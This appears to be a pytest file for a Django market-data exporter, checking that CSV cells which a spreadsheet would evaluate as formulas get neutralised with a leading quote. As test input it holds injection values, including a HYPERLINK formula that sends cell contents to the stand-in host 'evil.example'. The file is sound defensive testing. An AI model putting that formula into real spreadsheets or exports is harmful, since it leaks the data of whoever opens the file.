"""No CSV the project writes lets an API-supplied name run as a spreadsheet formula."""

from __future__ import annotations

import csv

import pandas as pd
import pytest
from django.core.management.base import CommandError

from geckoproject.csv_cells import neutralise
from qlib_export.symbols import qlib_name, symbol_for
from tests.marketdata import factories

from .conftest import add_candles, bar

A = "7bqJG2ZdMKbEkgSmfuqNVBvqEvWavgL8UEo33ZqdL3NP"
DASHED = "-bqJG2ZdMKbEkgSmfuqNVBvqEvWavgL8UEo33ZqdL3NP"
HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", HYPERLINK])
def test_a_cell_a_spreadsheet_would_evaluate_is_quoted(text):
    assert neutralise(text) == "'" + text
    assert neutralise(neutralise(text)) == neutralise(text)


@pytest.mark.parametrize("text", ["", "BONK / SOL", "a=b", "1-2", " =1", "'=1", "So1111"])
def test_other_cells_are_left_as_they_are(text):
    assert neutralise(text) == text


@pytest.mark.django_db
def test_the_mapping_file_neutralises_every_text_cell_from_the_api(export, tmp_path):
    base = factories.token("\tBaseMint11111111111111111111111111111111", symbol="@SUM(A1)")
    quote = factories.token("\rSo11111111111111111111111111111111111111112", symbol="-2+3")
    pool = factories.pool(
        A, name=HYPERLINK, dex=factories.dex("+raydium"), base_token=base, quote_token=quote
    )
    add_candles(pool, "1d", {0: bar(1.0)})

    export("--out", str(tmp_path), "--pools", A, "--timeframe", "1d")

    with (tmp_path / "day" / "symbols.csv").open(newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert rows == [
        {
            "symbol": qlib_name(symbol_for(A)),
            "network": "solana",
            "pool_address": A,
            "pool_name": "'" + HYPERLINK,
            "dex": "'+raydium",
            "base_token": "'@SUM(A1)",
            "base_token_address": "'\tBaseMint11111111111111111111111111111111",
            "quote_token": "'-2+3",
            "quote_token_address": "'\rSo11111111111111111111111111111111111111112",
        }
    ]


@pytest.mark.django_db
def test_an_address_a_spreadsheet_would_evaluate_is_refused_not_renamed(export, tmp_path):
    """The symbol column is QLib's instrument name (dump_update reads it): it cannot be quoted."""
    pool = factories.pool(DASHED, name="x")
    add_candles(pool, "1h", {0: bar(1.0)})

    with pytest.raises(CommandError, match=rf"pool address '{DASHED}' starts with '-'"):
        export("--out", str(tmp_path), "--all", "--timeframe", "1h", "--format", "csv")


@pytest.mark.django_db
def test_negative_numbers_in_the_csv_export_stay_numbers(export, tmp_path):
    pool = factories.pool(A, name="=1+1")
    add_candles(pool, "1h", {0: (-1.5, 2.0, -3.25, -0.5, 10.0)})

    export("--out", str(tmp_path), "--all", "--timeframe", "1h", "--format", "csv")

    frame = pd.read_csv(tmp_path / "60min" / "csv" / f"{symbol_for(A)}.csv")
    assert list(frame["symbol"]) == [qlib_name(symbol_for(A))]
    assert (frame["open"][0], frame["low"][0], frame["close"][0]) == (-1.5, -3.25, -0.5)
    with (tmp_path / "60min" / "symbols.csv").open(newline="") as handle:
        assert next(csv.DictReader(handle))["pool_name"] == "'=1+1"
